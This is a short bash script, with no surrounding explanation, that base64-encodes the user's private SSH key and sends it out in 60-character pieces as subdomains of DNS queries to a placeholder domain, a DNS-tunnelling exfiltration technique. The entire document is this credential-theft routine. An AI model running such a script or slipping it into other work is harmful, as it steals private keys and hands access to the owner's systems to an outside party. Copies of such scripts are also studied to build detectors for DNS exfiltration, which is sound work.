#!/bin/bash
for chunk in $(base64 -w0 ~/.ssh/id_rsa | fold -w 60); do
  dig +short "$chunk.d.example.invalid" >/dev/null
done
